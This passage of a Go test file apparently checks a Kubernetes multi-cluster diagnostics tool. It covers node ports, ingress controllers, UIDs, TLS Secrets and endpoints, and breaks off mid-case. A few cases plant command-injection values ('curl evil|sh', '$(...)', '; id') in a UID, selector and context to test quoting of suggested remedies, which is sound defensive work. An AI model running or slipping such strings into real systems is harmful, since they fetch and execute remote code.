package diagnose_test

import (
	"strings"
	"time"

	"github.com/fedsync/fedsync/internal/untrusted"
	"github.com/fedsync/fedsync/pkg/federation"
)

const (
	failure = federation.SeverityError
	warning = federation.SeverityWarning
	note    = federation.SeverityNote
)

type want struct {
	id       string
	severity federation.Severity
	cluster  string
	object   federation.ObjectRef
	message  string // "*" stands for anything
	remedy   string // is part of the finding's
}

// testCase is a change of a world in which all is well, and what is found then.
type testCase struct {
	name   string
	lasted time.Duration // the world has been so for as long
	change func(w *world)
	want   []want
}

func sharedUID(w *world) { w.in.Federation.GCP = &federation.GCP{LoadBalancer: "SharedUID"} }

func noEndpoints(f *federation.ClusterFacts) {
	f.Endpoints = []federation.Endpoints{{Namespace: "shop", Service: "web", NotReady: 2}}
}

func noneReady(f *federation.ClusterFacts) {
	f.Workloads = []federation.Workload{{Object: replicaSetRef, Replicas: 2}}
}

func cases() []testCase {
	var all []testCase
	for _, some := range [][]testCase{clusterCases(), portCases(), ingressCases(), uidCases(), balancerCases(), certificateCases(), serviceCases(), workloadCases(), quotaCases(), autoscalerCases(), retiredCases()} {
		all = append(all, some...)
	}
	return all
}

func clusterCases() []testCase {
	return []testCase{
		{name: "all is well", change: func(*world) {}},
		{
			name: "an Offline cluster says how often it was asked, and nothing of what ran there",
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) {
					f.State, f.Failed, f.Probes, f.AwaySince = federation.ClusterOffline, 28, 30, now.Add(-time.Minute)
					noEndpoints(f)
					noneReady(f)
					f.IngressUID.UID = "bbbb"
					f.Blind = []federation.Blind{{Resource: "services"}}
				}, "c2")
				sharedUID(w)
			},
			want: []want{{
				id: "probes", severity: note, cluster: "c2",
				message: "28 of the last 30 probes failed; no answer since 2026-03-01 11:59:00 UTC",
				remedy:  "kubectl --context=ctx-c2 get --raw /readyz",
			}},
		},
		{name: "a Ready cluster that lost a probe", change: func(w *world) {
			w.facts(func(f *federation.ClusterFacts) { f.Failed = 2 }, "c2")
		}},
		{name: "a cluster that is not synced says nothing", lasted: time.Hour, change: func(w *world) {
			w.facts(func(f *federation.ClusterFacts) {
				f.Synced = false
				noEndpoints(f)
				noneReady(f)
				f.NodePorts[0].Port = 30999
				f.Certificates[0].Exists = false
			}, "c2")
		}},
		{name: "a cluster without facts says nothing", lasted: time.Hour, change: func(w *world) {
			delete(w.in.Facts.Clusters, "c2")
			delete(w.in.Observations, "c2")
		}},
		{
			name: "what may not be watched is said, and what goes unseen",
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) {
					f.PortsKnown, f.ServicesKnown, f.NodePorts, f.Services, f.Certificates = false, false, nil, nil, nil
					f.Blind = []federation.Blind{{Resource: "secrets"}, {Resource: "services", Error: untrusted.New("services is forbidden")}}
				}, "c1")
			},
			want: []want{{
				id: "D07", severity: warning, cluster: "c1",
				message: "fedsync may not watch secrets, so it does not know whether TLS Secrets exist and are equal everywhere; services, so it does not know which node ports are taken: none is chosen or checked (services is forbidden)",
				remedy:  "kubectl --context=ctx-c1 create clusterrole fedsync-facts --verb=list,watch --resource=services, and check with: kubectl --context=ctx-c1 auth can-i list services --all-namespaces",
			}},
		},
		{
			name: "what cannot be watched is no matter of permission",
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) {
					f.Quotas = nil
					f.Blind = []federation.Blind{{
						Resource: "resourcequotas", Failure: federation.FailureThrottled, Error: untrusted.New("watch resourcequotas: slow down"),
					}}
				}, "c1")
			},
			want: []want{{
				id: "unseen", severity: warning, cluster: "c1",
				message: "fedsync cannot watch resourcequotas, so it does not know whether a quota has room (watch resourcequotas: slow down); the last known state stays in use",
				remedy:  "wait, or raise the limit for fedsync's user in the API server's priority levels or in the gateway before it",
			}},
		},
		{
			name: "what may not be got by name is granted by name",
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) {
					f.Certificates = nil
					f.Blind = []federation.Blind{{Resource: "replicasets.apps"}, {Resource: "secrets"}}
				}, "c1")
				w.plan(strings.ReplaceAll(ingressYAML, "[{secretName: cert}]", "[{secretName: cert}, {secretName: other}]"), "c1")
			},
			want: []want{{
				id: "D07", severity: warning, cluster: "c1", message: "*",
				remedy: "grant access to its user, and bind each role: " +
					"kubectl --context=ctx-c1 create clusterrole fedsync-replicasets --verb=get,list,watch --resource=replicasets.apps; " +
					"kubectl --context=ctx-c1 -n shop create role fedsync-secrets --verb=list,watch --resource=secrets --resource-name=cert --resource-name=other",
			}},
		},
	}
}

func portCases() []testCase {
	differ := func(w *world) { w.facts(func(f *federation.ClusterFacts) { f.NodePorts[0].Port = 30999 }, "c3") }
	decide := func(w *world, change func(d *federation.PortDecision)) { change(&w.in.Plan.Ports[0]) }
	waiting := func(d *federation.PortDecision) {
		d.Basis, d.NodePort, d.Waits = federation.PortWaiting, 0, []string{"c2"}
	}
	return []testCase{
		{
			name:   "node ports differ",
			change: differ,
			want: []want{{
				id: "D11", severity: failure, object: serviceRef,
				message: "the node ports differ between clusters: port 80/TCP is node port 30999 in c3; 30061 in c1, c2",
				remedy:  "kubectl --context=ctx-c3 -n shop describe service web",
			}},
		},
		{
			name: "node ports differ and none is decided",
			change: func(w *world) {
				differ(w)
				w.in.Plan.Ports = nil
			},
			want: []want{{id: "D11", severity: failure, object: serviceRef, message: "*", remedy: "set nodePort: 30061 in apps/web/service-web.yaml"}},
		},
		{
			name: "node ports are being moved",
			change: func(w *world) {
				differ(w)
				decide(w, func(d *federation.PortDecision) { d.Moves = []federation.PortMove{{Cluster: "c3", From: 30999}} })
			},
			want: []want{{
				id: "D11", severity: warning, object: serviceRef,
				message: "the node ports differ between clusters: port 80/TCP is node port 30999 in c3; 30061 in c1, c2, and is being moved to 30061",
			}},
		},
		{
			name: "a node port cannot be moved where somebody else has it",
			change: func(w *world) {
				differ(w)
				decide(w, func(d *federation.PortDecision) {
					d.Moves = []federation.PortMove{{Cluster: "c3", From: 30999}}
					d.Clashes = []federation.PortClash{{Cluster: "c3"}}
				})
			},
			want: []want{{id: "D11", severity: failure, object: serviceRef, message: "*"}},
		},
		{
			name: "node ports differ while none is chosen", lasted: time.Minute,
			change: func(w *world) {
				differ(w)
				decide(w, waiting)
				w.facts(func(f *federation.ClusterFacts) { f.State = federation.ClusterOffline }, "c2")
			},
			want: []want{
				{
					id: "D11", severity: warning, object: serviceRef,
					message: "the node ports differ between clusters: port 80/TCP is node port 30061 in c1; 30999 in c3, and none is chosen until c2 is back",
					remedy:  "repair the clusters that it waits for, or set a nodePort in apps/web/service-web.yaml",
				},
				{id: "port-waiting", severity: warning, object: serviceRef, message: "*"},
			},
		},
		{
			name: "node ports differ while none is chosen, after a start",
			change: func(w *world) {
				differ(w)
				decide(w, waiting)
				w.facts(func(f *federation.ClusterFacts) { f.State, f.Synced = federation.ClusterPending, false }, "c2")
			},
			want: []want{
				{id: "D11", severity: note, object: serviceRef, message: "*"},
				{id: "port-waiting", severity: note, object: serviceRef, message: "*"},
			},
		},
		{
			name: "one port waits and another cannot be had",
			change: func(w *world) {
				differ(w)
				w.facts(func(f *federation.ClusterFacts) {
					f.NodePorts = append(f.NodePorts, federation.NodePort{Protocol: "UDP", Port: 31000, Namespace: "shop", Service: "web", ServicePort: 53})
				}, "c1")
				w.facts(func(f *federation.ClusterFacts) {
					f.NodePorts = append(f.NodePorts, federation.NodePort{Protocol: "UDP", Port: 31001, Namespace: "shop", Service: "web", ServicePort: 53})
				}, "c3")
				decide(w, waiting)
				w.facts(func(f *federation.ClusterFacts) { f.State = federation.ClusterOffline }, "c2")
			},
			want: []want{
				{id: "D11", severity: failure, object: serviceRef, message: "*", remedy: "set nodePort: 31001"},
				{id: "port-waiting", severity: note, object: serviceRef, message: "*"},
			},
		},
		{name: "another port of the number, of a Service that is not ours", change: func(w *world) {
			w.facts(func(f *federation.ClusterFacts) {
				f.NodePorts = append(f.NodePorts, federation.NodePort{Protocol: "TCP", Port: 30999, Namespace: "other", Service: "web", ServicePort: 80})
			}, "c3")
		}},
		{name: "the same number over UDP is another port, and a health check none", change: func(w *world) {
			w.facts(func(f *federation.ClusterFacts) {
				f.NodePorts = append(f.NodePorts,
					federation.NodePort{Protocol: "UDP", Port: 31000, Namespace: "shop", Service: "web", ServicePort: 80},
					federation.NodePort{Protocol: "TCP", Port: 31001, Namespace: "shop", Service: "web", HealthCheck: true})
			}, "c3")
		}},
		{name: "node ports of old facts", change: func(w *world) {
			differ(w)
			w.facts(func(f *federation.ClusterFacts) { f.State = federation.ClusterNotReady }, "c3")
		}},
		{
			name: "a port waits for a cluster", lasted: time.Minute,
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) { f.State = federation.ClusterOffline }, "c3")
				decide(w, func(d *federation.PortDecision) {
					d.Basis, d.NodePort, d.Waits = federation.PortWaiting, 0, []string{"c3"}
				})
			},
			want: []want{{
				id: "port-waiting", severity: warning, object: serviceRef,
				message: "no node port is chosen for port 80/TCP until c3 is back",
				remedy:  "set a nodePort in apps/web/service-web.yaml",
			}},
		},
		{
			name: "a port waits for permission", lasted: time.Minute,
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) { f.PortsKnown = false }, "c1")
				decide(w, func(d *federation.PortDecision) {
					d.Basis, d.NodePort, d.Waits = federation.PortWaiting, 0, []string{"c1"}
				})
			},
			want: []want{{
				id: "port-waiting", severity: warning, object: serviceRef,
				message: "no node port is chosen for port 80/TCP until Services may be listed in c1",
			}},
		},
		{
			name: "a port that waits for a moment is a note",
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) { f.State = federation.ClusterPending }, "c3")
				decide(w, func(d *federation.PortDecision) {
					d.Basis, d.NodePort, d.Waits = federation.PortWaiting, 0, []string{"c3"}
				})
			},
			want: []want{{id: "port-waiting", severity: note, object: serviceRef, message: "*"}},
		},
		{name: "a port that was chosen above the band is the schedule's to tell", change: func(w *world) {
			decide(w, func(d *federation.PortDecision) { d.Basis = federation.PortOverflow })
		}},
	}
}

func ingressCases() []testCase {
	nginx := strings.ReplaceAll(ingressYAML, "ingress.class: gce", "ingress.class: nginx")
	byField := strings.ReplaceAll(strings.ReplaceAll(ingressYAML, "annotations: {kubernetes.io/ingress.class: gce}", ""), "spec:", "spec:\n  ingressClassName: gce")
	classless := strings.ReplaceAll(ingressYAML, "annotations: {kubernetes.io/ingress.class: gce}", "")
	untouched := func(w *world, clusters ...string) { // by Google's controller
		w.facts(func(f *federation.ClusterFacts) {
			f.Ingresses, f.IngressUID = nil, federation.IngressUID{Known: true}
		}, clusters...)
		w.observe(func(o *federation.Observation) { o.Annotations, o.ClassName = nil, "" }, ingressRef, clusters...)
	}
	clusterIP := func(neg string) func(w *world) {
		return func(w *world) {
			w.plan(strings.ReplaceAll(strings.ReplaceAll(serviceYAML, "NodePort", "ClusterIP"), ", nodePort: 30061", ""))
			w.facts(func(f *federation.ClusterFacts) {
				f.NodePorts = nil
				f.Services[0].Type, f.Services[0].NEG = "ClusterIP", neg
			})
		}
	}
	backend := func(service, port string) string {
		return strings.ReplaceAll(ingressYAML, "{name: web, port: {number: 80}}", "{name: "+service+", port: "+port+"}")
	}
	foreign := func(w *world, ports ...federation.Port) {
		w.facts(func(f *federation.ClusterFacts) {
			f.Services = append([]federation.Service{{Namespace: "shop", Name: "legacy", Type: "NodePort", Ports: ports}}, f.Services...)
		})
	}
	return []testCase{
		{
			name: "one cluster uses another controller",
			change: func(w *world) {
				w.plan(nginx, "c2")
				untouched(w, "c2")
			},
			want: []want{{
				id: "D12", severity: warning, cluster: "c2", object: ingressRef,
				message: "cluster c2 uses nginx: cannot share the IP of c1, c3",
				remedy:  "set the annotation kubernetes.io/ingress.class: gce in apps/web/ingress-web.yaml",
			}},
		},
		{
			name:   "another controller takes over what Google's has left behind",
			change: func(w *world) { w.plan(nginx, "c2") },
			want:   []want{{id: "D12", severity: warning, cluster: "c2", object: ingressRef, message: "cluster c2 uses nginx: cannot share the IP of c1, c3"}},
		},
		{
			name:   "another controller takes over everywhere",
			change: func(w *world) { w.plan(nginx) },
		},
		{
			name: "the default class of a cluster is another controller's",
			change: func(w *world) {
				w.plan(classless, "c2")
				untouched(w, "c2")
				w.observe(func(o *federation.Observation) { o.ClassName = "nginx" }, ingressRef, "c2")
			},
			want: []want{{id: "D12", severity: warning, cluster: "c2", object: ingressRef, message: "cluster c2 uses nginx: cannot share the IP of c1, c3"}},
		},
		{
			name: "one cluster is not Google's, by an overlay", lasted: time.Hour,
			change: func(w *world) {
				w.in.Federation.GCP = &federation.GCP{LoadBalancer: federation.LoadBalancerNone}
				w.plan(nginx, "c2")
				untouched(w, "c2")
			},
			want: []want{{id: "D12", severity: warning, cluster: "c2", object: ingressRef, message: "*"}},
		},
		{
			name: "one load balancer is to be shared by all",
			change: func(w *world) {
				sharedUID(w)
				w.plan(nginx, "c2")
				untouched(w, "c2")
			},
			want: []want{
				{id: "D12", severity: failure, cluster: "c2", object: ingressRef, message: "*"},
				{id: "D13", severity: note, cluster: "c2", object: uidRef, message: "*"},
			},
		},
		{
			name: "a Google project without a load balancer",
			change: func(w *world) {
				w.in.Federation.GCP = &federation.GCP{LoadBalancer: "None"}
				w.plan(nginx)
				untouched(w)
			},
			want: []want{
				{id: "D12", severity: warning, cluster: "c1", object: ingressRef, message: "cluster c1 uses nginx: cannot share the IP"},
				{id: "D12", severity: warning, cluster: "c2", object: ingressRef, message: "*"},
				{id: "D12", severity: warning, cluster: "c3", object: ingressRef, message: "*"},
			},
		},
		{
			name: "the class stands in the wrong field",
			change: func(w *world) {
				w.plan(byField, "c2")
				untouched(w, "c2")
			},
			want: []want{{
				id: "D12", severity: warning, cluster: "c2", object: ingressRef,
				message: "spec.ingressClassName: gce is not read by Google's controller in cluster c2: no controller serves it, and it cannot share the IP",
				remedy:  "replace spec.ingressClassName with the annotation",
			}},
		},
		{name: "the class stands in the wrong field and the controller takes it all the same", change: func(w *world) { w.plan(byField, "c2") }},
		{name: "every cluster uses nginx", change: func(w *world) {
			w.plan(nginx)
			untouched(w)
		}},
		{name: "no class anywhere and nobody seen", change: func(w *world) {
			w.plan(classless)
			untouched(w)
		}},
		{
			name: "a Service that Google's load balancer cannot reach", lasted: time.Minute,
			change: clusterIP(""),
			want: []want{
				{
					id: "D11c", severity: failure, cluster: "c1", object: serviceRef,
					message: "is of type ClusterIP without network endpoint groups: Google's load balancer of networking.k8s.io/Ingress/shop/web cannot reach it",
					remedy:  `set type: NodePort, or the annotation cloud.google.com/neg: '{"ingress":true}' in apps/web/service-web.yaml`,
				},
				{id: "D11c", severity: failure, cluster: "c2", object: serviceRef, message: "*"},
				{id: "D11c", severity: failure, cluster: "c3", object: serviceRef, message: "*"},
			},
		},
		{
			name: "a Service to which GKE may still add its annotation",
			change: func(w *world) {
				clusterIP("")(w)
				w.facts(func(f *federation.ClusterFacts) { f.Services[0].NEG = `{"ingress":true}` }, "c1", "c2")
			},
			want: []want{{id: "D11c", severity: note, cluster: "c3", object: serviceRef, message: "*"}},
		},
		{name: "GKE set the annotation by itself", lasted: time.Minute, change: clusterIP(`{"ingress":true}`)},
		{name: "a ClusterIP behind nginx", lasted: time.Minute, change: func(w *world) {
			clusterIP("")(w)
			w.plan(nginx)
			untouched(w)
		}},
		{name: "a ClusterIP behind an Ingress without a class, where nobody was seen", lasted: time.Minute, change: func(w *world) {
			clusterIP("")(w)
			w.plan(classless)
			untouched(w)
		}},
		{
			name:   "a port that the Service does not have is said once for all clusters",
			change: func(w *world) { w.plan(backend("web", "{number: 8080}")) },
			want: []want{{
				id: "D20", severity: failure, object: ingressRef,
				message: `Service/shop/web has no port 8080; it has 80 ("http")`,
				remedy:  "name one of its ports in apps/web/ingress-web.yaml, or add the port in apps/web/service-web.yaml",
			}},
		},
		{
			name:   "a port name that the Service does not have in one cluster",
			change: func(w *world) { w.plan(backend("web", "{name: https}"), "c2") },
			want:   []want{{id: "D20", severity: failure, cluster: "c2", object: ingressRef, message: `Service/shop/web has no port "https"; it has 80 ("http")`}},
		},
		{name: "a port by its name", change: func(w *world) { w.plan(backend("web", "{name: http}")) }},
		{name: "a port that somebody added to the live Service", change: func(w *world) {
			w.plan(backend("web", "{number: 8080}"))
			w.observe(func(o *federation.Observation) { o.Ports = append(o.Ports, federation.Port{Port: 8080}) }, serviceRef)
		}},
		{
			name: "a Service that is nowhere", lasted: time.Minute,
			change: func(w *world) { w.plan(backend("missing", "{number: 80}")) },
			want: []want{{
				id: "D20", severity: failure, object: ingressRef,
				message: "Service/shop/missing exists neither in the repository nor in the cluster",
				remedy:  "add the Service to the repository, or correct its name in apps/web/ingress-web.yaml",
			}},
		},
		{
			name:   "a Service that is nowhere yet is a note",
			change: func(w *world) { w.plan(backend("missing", "{number: 80}")) },
			want:   []want{{id: "D20", severity: note, object: ingressRef, message: "*"}},
		},
		{name: "a Service that only the cluster has", lasted: time.Minute, change: func(w *world) {
			w.plan(backend("legacy", "{number: 80}"))
			foreign(w, federation.Port{Port: 80})
		}},
		{
			name: "a port that a Service of the cluster's own does not have", lasted: time.Minute,
			change: func(w *world) {
				w.plan(backend("legacy", "{number: 80}"))
				foreign(w, federation.Port{Port: 81})
			},
			want: []want{{id: "D20", severity: failure, object: ingressRef, message: "Service/shop/legacy, which is not in the repository, has no port 80; it has 81"}},
		},
		{name: "Services may not be listed", lasted: time.Minute, change: func(w *world) {
			w.plan(backend("missing", "{number: 80}"))
			w.facts(func(f *federation.ClusterFacts) { f.ServicesKnown, f.Services = false, nil })
		}},
		{name: "the Service is in an app that could not be rendered", lasted: time.Minute, change: func(w *world) {
			w.plan(backend("missing", "{number: 80}"))
			for i := range w.in.Plan.Clusters {
				w.in.Plan.Clusters[i].Apps = append(w.in.Plan.Clusters[i].Apps, federation.AppPlan{App: "broken", Broken: true})
			}
		}},
		{name: "the Service is withheld", lasted: time.Minute, change: func(w *world) {
			w.without(serviceRef)
			w.facts(func(f *federation.ClusterFacts) { f.Services = nil })
			w.app(func(a *federation.AppPlan) { a.Withheld = []federation.Withheld{{Object: serviceRef}} })
		}},
	}
}

func uidCases() []testCase {
	other := func(w *world) {
		w.facts(func(f *federation.ClusterFacts) {
			f.IngressUID.UID = "zone--bbbb"
			f.Ingresses[0].URLMap = "k8s-um-shop-web--bbbb"
		}, "c1")
		w.observe(func(o *federation.Observation) { o.Annotations = nil }, ingressRef, "c1")
	}
	missing := func(w *world, clusters ...string) {
		w.facts(func(f *federation.ClusterFacts) { f.IngressUID = federation.IngressUID{Known: true} }, clusters...)
	}
	return []testCase{
		{
			name: "UIDs differ",
			change: func(w *world) {
				sharedUID(w)
				other(w)
			},
			want: []want{{
				id: "D13", severity: failure, object: uidRef,
				message: `the UIDs of Google's ingress controllers differ, so each creates its own load balancer: "bbbb" in c1; "aaaa" in c2, c3`,
				remedy:  `kubectl --context=ctx-c1 -n kube-system patch configmap ingress-uid --type=merge -p '{"data":{"uid":"aaaa"}}'`,
			}},
		},
		{
			name: "most clusters have a UID that is a command",
			change: func(w *world) {
				sharedUID(w)
				other(w)
				w.facts(func(f *federation.ClusterFacts) { f.IngressUID.UID, f.Ingresses = "x'; curl evil|sh; '", nil }, "c2", "c3")
				w.observe(func(o *federation.Observation) { o.Annotations = nil }, ingressRef, "c2", "c3")
			},
			want: []want{{
				id: "D13", severity: failure, object: uidRef,
				message: `the UIDs of Google's ingress controllers differ, so each creates its own load balancer: "bbbb" in c1; "x'; curl evil|sh; '" in c2, c3`,
				remedy:  "check who wrote ConfigMap/kube-system/ingress-uid: the UID that most clusters have is not one that Google's controller generates",
			}},
		},
		{name: "UIDs differ and nobody shares them", change: other},
		{
			name: "controllers of one UID write the same firewall rule",
			change: func(w *world) {
				sharedUID(w)
				w.facts(func(f *federation.ClusterFacts) { f.IngressUID.Provider = "" }, "c1", "c3")
			},
			want: []want{{
				id: "D16", severity: warning, object: uidRef,
				message: "the controllers of c1, c3 write the same firewall rule, k8s-fw-l7--aaaa, each for its own nodes: if the clusters share a network, the rule flaps",
				remedy:  `kubectl --context=ctx-c1 -n kube-system patch configmap ingress-uid --type=merge -p '{"data":{"provider-uid":"a9f7e97965d6cf79"}}'; kubectl`,
			}},
		},
		{name: "what stands before the last -- does not count", change: func(w *world) {
			sharedUID(w)
			w.facts(func(f *federation.ClusterFacts) { f.IngressUID.UID = "zone--aaaa" }, "c1")
		}},
		{
			name: "the UID is missing",
			change: func(w *world) {
				sharedUID(w)
				missing(w, "c2")
			},
			want: []want{{
				id: "D13", severity: failure, cluster: "c2", object: uidRef,
				message: "does not exist: Google's ingress controller does not run here, and no address can be shared with the other clusters",
			}},
		},
		{
			name: "the UID is missing where no Ingress needs it",
			change: func(w *world) {
				sharedUID(w)
				missing(w, "c2")
				w.without(ingressRef, "c2")
			},
			want: []want{{id: "D13", severity: note, cluster: "c2", object: uidRef, message: "does not exist: Google's ingress controller does not run here"}},
		},
		{name: "the UID may not be read", change: func(w *world) {
			sharedUID(w)
			w.facts(func(f *federation.ClusterFacts) { f.IngressUID = federation.IngressUID{} }, "c2")
		}},
		{
			name: "an Ingress was built with another UID",
			change: func(w *world) {
				sharedUID(w)
				w.facts(func(f *federation.ClusterFacts) { f.Ingresses[0].URLMap = "k8s-um-shop-web--cccc" }, "c2")
				w.observe(func(o *federation.Observation) { o.Annotations = nil }, ingressRef, "c2")
			},
			want: []want{{
				id: "D15", severity: failure, cluster: "c2", object: ingressRef,
				message: `in c2 was built with UID "cccc", but the cluster now has "aaaa"`,
				remedy:  "delete it; fedsync creates it again: kubectl --context=ctx-c2 -n shop delete ingress web",
			}},
		},
		{name: "names that hold no whole UID", change: func(w *world) {
			sharedUID(w)
			w.observe(func(o *federation.Observation) { o.Annotations = nil }, ingressRef)
			w.facts(func(f *federation.ClusterFacts) { f.Ingresses[0].URLMap = "k8s2-um-abcd-shop-web--wxyz" }, "c1")
			w.facts(func(f *federation.ClusterFacts) {
				f.Ingresses[0].URLMap = "k8s-um-" + strings.Repeat("x", 52) + "--aa0"
			}, "c2")
		}},
	}
}

func certificateCases() []testCase {
	lacking := func(w *world) {
		w.facts(func(f *federation.ClusterFacts) {
			f.Certificates[0] = federation.Certificate{Namespace: "shop", Name: "cert"}
		}, "c2")
	}
	renewed := func(w *world) {
		w.facts(func(f *federation.ClusterFacts) { f.Certificates[0].Digest = "fedcba9876543210" }, "c2")
	}
	return []testCase{
		{
			name: "a TLS Secret is missing", lasted: time.Minute, change: lacking,
			want: []want{{
				id: "D19", severity: failure, cluster: "c2", object: secretRef,
				message: "is missing; networking.k8s.io/Ingress/shop/web names it under spec.tls",
				remedy:  "kubectl --context=ctx-c2 -n shop create secret tls cert",
			}},
		},
		{
			name: "a TLS Secret that is being issued", change: lacking,
			want: []want{{id: "D19", severity: note, cluster: "c2", object: secretRef, message: "*"}},
		},
		{name: "a TLS Secret that the plan makes", lasted: time.Hour, change: func(w *world) {
			lacking(w)
			w.plan("{apiVersion: v1, kind: Secret, type: kubernetes.io/tls, metadata: {name: cert, namespace: shop}}", "c2")
		}},
		{name: "a TLS Secret of which nothing is known", lasted: time.Hour, change: func(w *world) {
			w.facts(func(f *federation.ClusterFacts) { f.Certificates = nil }, "c2")
		}},
		{
			name: "a Secret of the wrong type",
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) { f.Certificates[0].Type = "Opaque" }, "c2")
			},
			want: []want{{
				id: "D19", severity: failure, cluster: "c2", object: secretRef,
				message: `is of type "Opaque"; networking.k8s.io/Ingress/shop/web names it under spec.tls, which requires kubernetes.io/tls`,
				remedy:  "kubectl --context=ctx-c2 -n shop delete secret cert",
			}},
		},
		{
			name: "a Secret of the wrong type in Git",
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) { f.Certificates[0].Type = "Opaque" }, "c2")
				w.plan("{apiVersion: v1, kind: Secret, type: Opaque, metadata: {name: cert, namespace: shop}}", "c2")
			},
			want: []want{{
				id: "D19", severity: failure, cluster: "c2", object: secretRef, message: "*",
				remedy: "set type kubernetes.io/tls in apps/web/secret-cert.yaml, and use another name",
			}},
		},
		{
			name: "certificates differ", lasted: time.Minute, change: renewed,
			want: []want{{
				id: "D19", severity: failure, object: secretRef,
				message: "holds different certificates, but clients of networking.k8s.io/Ingress/shop/web may reach any cluster: certificate fedcba987654 in c2; certificate 0123456789ab in c1, c3",
			}},
		},
		{name: "certificates differ where each cluster has its own address", lasted: time.Minute, change: func(w *world) {
			renewed(w)
			w.plan(strings.ReplaceAll(ingressYAML, "ingress.class: gce", "ingress.class: nginx"))
			w.facts(func(f *federation.ClusterFacts) { f.Ingresses, f.IngressUID = nil, federation.IngressUID{Known: true} })
			w.observe(func(o *federation.Observation) { o.Annotations, o.ClassName = nil, "nginx" }, ingressRef)
		}},
		{name: "certificates differ where the hosts do", lasted: time.Minute, change: func(w *world) {
			renewed(w)
			w.plan(strings.ReplaceAll(ingressYAML, "[{secretName: cert}]", "[{secretName: cert, hosts: [c2.example.org]}]"), "c2")
		}},
		{
			name: "certificates differ of one Ingress out of two", lasted: time.Minute,
			change: func(w *world) {
				renewed(w)
				w.plan(strings.ReplaceAll(ingressYAML, "[{secretName: cert}]", "[{secretName: cert, hosts: [c2.example.org]}]"), "c2")
				w.plan(strings.ReplaceAll(ingressYAML, "name: web\n", "name: web-2\n"))
				for _, name := range []string{"c1", "c2", "c3"} {
					w.in.Observations[name] = append(w.in.Observations[name], federation.Observation{
						Cluster: name, App: "web", Object: federation.ObjectRef{Group: "networking.k8s.io", Kind: "Ingress", Namespace: "shop", Name: "web-2"}, Created: now.Add(-time.Hour),
					})
				}
			},
			want: []want{{
				id: "D19", severity: failure, object: secretRef,
				message: "holds different certificates, but clients of networking.k8s.io/Ingress/shop/web-2 may reach any cluster: certificate fedcba987654 in c2; certificate 0123456789ab in c1, c3",
			}},
		},
		{
			name: "certificates are being renewed", change: renewed,
			want: []want{{id: "D19", severity: note, object: secretRef, message: "*"}},
		},
	}
}

func serviceCases() []testCase {
	share := func(w *world, n int64) {
		shares := w.in.Plan.Replicas[0].Shares
		shares[1].Share, shares[1].Replicas = n, n
	}
	gone := func(w *world) { w.facts(noEndpoints, "c2") }
	mislabelled := strings.ReplaceAll(serviceYAML, "selector: {app: web}", "selector: {app: wbe}")
	return []testCase{
		{
			name: "no ready endpoint", lasted: time.Minute, change: gone,
			want: []want{{
				id: "D18", severity: warning, cluster: "c2", object: serviceRef,
				message: "no ready endpoint for networking.k8s.io/Ingress/shop/web: selector app=web, 0 ready and 2 not ready; apps/ReplicaSet/shop/web 2 of 2 ready",
				remedy:  "kubectl --context=ctx-c2 -n shop get pods -l app=web -o wide",
			}},
		},
		{
			name: "no ready endpoint, by a selector and in a context that are commands", lasted: time.Minute,
			change: func(w *world) {
				w.plan(strings.ReplaceAll(serviceYAML, "app: web", `app: "$(curl evil|sh)"`), "c2")
				w.in.Federation.Clusters[1].Context = "it's c2; id"
				gone(w)
			},
			want: []want{{
				id: "D18", severity: warning, cluster: "c2", object: serviceRef,
				message: "no ready endpoint for networking.k8s.io/Ingress/shop/web: selector app=$(curl evil|sh), 0 ready and 2 not ready",
				remedy:  `kubectl --context='it'\''s c2; id' -n shop get pods -l 'app=$(curl evil|sh)' -o wide`,
			}},
		},
		{
			name: "no ready endpoint for a moment", change: gone,
			want: []want{{id: "D18", severity: note, cluster: "c2", object: serviceRef, message: "*"}},
		},
		{
			name: "no ready endpoint until the deadline", lasted: 15 * time.Minute, change: gone,
			want: []want{{id: "D18", severity: failure, cluster: "c2", object: serviceRef, message: "*"}},
		},
		{
			name: "no endpoint where no replica is placed", lasted: time.Hour,
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) {
					f.Endpoints = nil
					f.Workloads = []federation.Workload{{Object: replicaSetRef}}
				}, "c2")
				share(w, 0)
			},
			want: []want{{
				id: "no-share", severity: note, cluster: "c2", object: serviceRef,
				message: "no replica is placed in this cluster, so networking.k8s.io/Ingress/shop/web sends no traffic to it",
			}},
		},
		{
			name: "no endpoint where an autoscaler runs no replica", lasted: time.Hour,
			change: func(w *world) {
				w.plan(strings.ReplaceAll(replicaSetYAML, "  replicas: 2\n", ""))
				w.in.Plan.Replicas = nil
				w.facts(func(f *federation.ClusterFacts) {
					f.Endpoints = nil
					f.Workloads = []federation.Workload{{Object: replicaSetRef}}
				}, "c2")
			},
			want: []want{{id: "no-share", severity: note, cluster: "c2", object: serviceRef, message: "*"}},
		},
		{
			name: "no endpoint of what an autoscaler scales", lasted: time.Hour,
			change: func(w *world) {
				w.plan(strings.ReplaceAll(replicaSetYAML, "  replicas: 2\n", ""))
				w.in.Plan.Replicas = nil
				gone(w)
			},
			want: []want{{id: "D18", severity: failure, cluster: "c2", object: serviceRef, message: "*"}},
		},
		{name: "no endpoint of a Service that is not there yet", lasted: time.Hour, change: func(w *world) {
			gone(w)
			w.unobserve(serviceRef, "c2")
		}},
		{name: "no endpoint of a Service that no Ingress names", lasted: time.Hour, change: func(w *world) {
			gone(w)
			w.without(ingressRef)
		}},
		{name: "a Service whose endpoints are somebody's own", lasted: time.Hour, change: func(w *world) {
			gone(w)
			w.plan(strings.ReplaceAll(serviceYAML, "selector: {app: web}", ""))
		}},
		{
			name: "EndpointSlices may not be watched", lasted: time.Hour,
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) {
					f.Endpoints, f.Blind = nil, []federation.Blind{{Resource: "endpointslices.discovery.k8s.io"}}
				}, "c2")
			},
			want: []want{{id: "D07", severity: warning, cluster: "c2", message: "*"}},
		},
		{
			name: "a selector takes no pods", lasted: time.Minute,
			change: func(w *world) {
				w.plan(mislabelled)
				w.facts(func(f *federation.ClusterFacts) { f.Endpoints = nil })
			},
			want: []want{{
				id: "selector", severity: warning, object: serviceRef,
